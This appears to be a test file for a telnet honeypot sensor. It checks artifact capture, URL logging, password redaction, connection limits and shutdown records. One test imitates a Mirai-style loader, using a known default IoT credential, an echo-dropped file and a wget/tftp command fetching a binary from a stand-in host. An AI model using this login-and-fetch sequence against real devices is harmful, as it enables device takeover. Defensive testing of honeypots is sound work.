"""A persona's telnet: a harmless imitation of a loader, Debian's telnet client, and what is written down of them."""

import hashlib
import select
import socket
import time

from harness import LIMIT_S, Sensor, Terminal, check, equal, run, wait_until

PAYLOAD = b"Komainu was here.\nThis is a text file and nothing else: \\ ' \" \x01\x02\xff\n" * 5


class Telnet:
    """A raw socket that reads up to what it waits for, as loaders do."""

    def __init__(self, sensor, port=23):
        self.socket = sensor.connect(port)
        self.port = self.socket.getsockname()[1]
        self.seen = b""

    def until(self, *ends):
        deadline = time.monotonic() + LIMIT_S
        while not any(self.seen.rstrip().endswith(end) for end in ends):
            readable, _, _ = select.select([self.socket], [], [], max(0, deadline - time.monotonic()))
            if not readable:
                raise AssertionError(f"none of {ends} was seen, but {self.seen!r}")
            more = self.socket.recv(4096)
            if not more:
                raise AssertionError(f"the connection ended before any of {ends}: {self.seen!r}")
            self.seen += more
        seen, self.seen = self.seen, b""
        return seen

    def say(self, line, *ends):
        self.socket.sendall(line.encode() + b"\r\n")
        return self.until(*(ends or (b"#",)))

    def log_in(self, user="root", password="xc3511"):
        self.until(b"login:")
        self.say(user, b"Password:")
        return self.say(password)

    def exit(self):
        self.socket.sendall(b"exit\r\n")
        while self.socket.recv(4096):
            pass
        self.socket.close()


@check
def a_loader_leaves_a_file(sensor):
    client = Telnet(sensor)
    equal(b"built-in shell (ash)" in client.log_in(), True)
    for line in ("enable", "system", "shell", "sh"):
        client.say(line)
    equal(b"KOMAINU: applet not found" in client.say("/bin/busybox KOMAINU"), True)
    client.say("cd /tmp")
    client.say(">.k; chmod 777 .k")
    for at in range(0, len(PAYLOAD), 64):
        digits = "".join(f"\\x{byte:02x}" for byte in PAYLOAD[at : at + 64])
        client.say(f"echo -ne '{digits}' >> .k")
    client.say("wget http://192.0.2.9/bins/k.arm -O /tmp/k; tftp -g -r k.arm 192.0.2.9")
    client.say("./.k telnet.arm")
    client.socket.close()
    summary, eve, _ = sensor.session(client.port)
    sha256 = hashlib.sha256(PAYLOAD).hexdigest()
    artifact = next(one for one in summary["artifacts"] if one["sha256"] == sha256)
    equal((artifact["via"], artifact["bytes"], artifact["stored"]), ("shell", len(PAYLOAD), True))
    equal(sensor.artifact(sha256), PAYLOAD, "the file comes out as it went in")
    equal(sha256 in sensor.command("artifacts", "list"), True)
    equal(any(line.get("fileinfo", {}).get("sha256") == sha256 for line in eve), True, eve)
    urls = {url["url"] for url in summary["urls"]}
    equal({"http://192.0.2.9/bins/k.arm", "tftp://192.0.2.9/k.arm"} <= urls, True, urls)
    ran = summary["runs"][0]
    equal((ran["path"], ran["arguments"]), ("/tmp/.k", ["telnet.arm"]))
    equal(summary["target"]["kind"], "emulated")
    equal([line["app_proto"] for line in eve if line["event_type"] == "flow"], ["telnet"])


@check
def logins_and_commands_are_told_without_passwords(sensor):
    client = Telnet(sensor)
    client.until(b"login:")
    client.say("admin", b"Password:")
    client.say("not-this-one-0815", b"login:")
    client.say("root", b"Password:")
    client.say("xc3511")
    client.say("cat /proc/mounts")
    client.exit()
    summary, _, _ = sensor.session(client.port)
    auth = [(one["user"], one["accepted"]) for one in summary["auth"]]
    equal(auth, [("admin", False), ("root", True)])
    equal([one["line"] for one in summary["commands"]], ["cat /proc/mounts", "exit"])
    for name in ("eve.json", "honeypot.json"):
        text = (sensor.data / "sensor" / name).read_text()
        equal("not-this-one-0815" in text or "xc3511" in text, False, f"passwords in {name}")


@check
def debians_telnet(sensor):
    visit_by_terminal(sensor, "telnet")
    sizes = wait_until("the size of the terminal", lambda: window_sizes(sensor))
    equal(sizes[-1], {"columns": 80, "rows": 24})


@check
def busybox_telnet(sensor):
    visit_by_terminal(sensor, "busybox", "telnet")


def visit_by_terminal(sensor, *program):
    """Logs in, looks around and leaves as somebody at a terminal does."""
    terminal = Terminal([*program, "127.0.0.1", str(sensor.port(23))])
    terminal.until(b"login: ")
    terminal.enter(b"root")
    terminal.until(b"Password: ")
    terminal.enter(b"xc3511")
    equal(b"xc3511" in terminal.until(b"# "), False, "the password is not echoed")
    terminal.enter(b"uname -m")
    equal(b"armv7l" in terminal.until(b"# "), True)
    terminal.enter(b"exit")
    terminal.until(b"closed by foreign host")
    equal(terminal.wait() is not None, True)


def window_sizes(sensor):
    told = (line.get("telnet", {}).get("window_size") for line in sensor.lines("honeypot.json"))
    return [size for size in told if size]


@check
def a_source_has_a_bound(sensor):
    inside = [Telnet(sensor) for _ in range(8)]
    for client in inside:
        client.until(b"login:")
    ninth = sensor.connect(23)
    equal(ninth.recv(100), b"", "the ninth connection is closed")
    for client in inside:
        client.socket.close()
    wait_until("a free place", lambda: has_greeting(sensor))
    equal("connections_per_source_max" in sensor.log.read_text(), True)


def has_greeting(sensor):
    with sensor.connect(23) as client:
        try:
            return client.recv(100)
        except ConnectionResetError:
            return b""


@check
def what_is_said_at_a_raw_port(sensor):
    client = sensor.connect(34567)
    port = client.getsockname()[1]
    client.sendall(b"\xff\x00\x00\x00hello")
    client.shutdown(socket.SHUT_WR)
    equal(client.recv(10), b"")
    _, _, honeypot = sensor.session(port)
    payload = next(line["payload"] for line in honeypot if line["event_type"] == "payload")
    equal((payload["bytes"], payload["text"]), (9, "\\xff\x00\x00\x00hello"))
    equal(sensor.artifact(payload["sha256"]), b"\xff\x00\x00\x00hello")


@check
def stopping_writes_what_is_open(sensor):
    client = Telnet(sensor)
    client.log_in()
    client.say("echo not finished > /tmp/left")
    sensor.stop()
    summary, eve, _ = sensor.session(client.port)
    equal(summary["session"]["ended"], "stopped")
    equal([line["flow"]["reason"] for line in eve if line["event_type"] == "flow"], ["shutdown"])
    equal(sensor.artifact(hashlib.sha256(b"not finished\n").hexdigest()), b"not finished\n")


run(Sensor, configuration='[sensor]\nid = "check"\nconnections_per_source_max = 8\n')
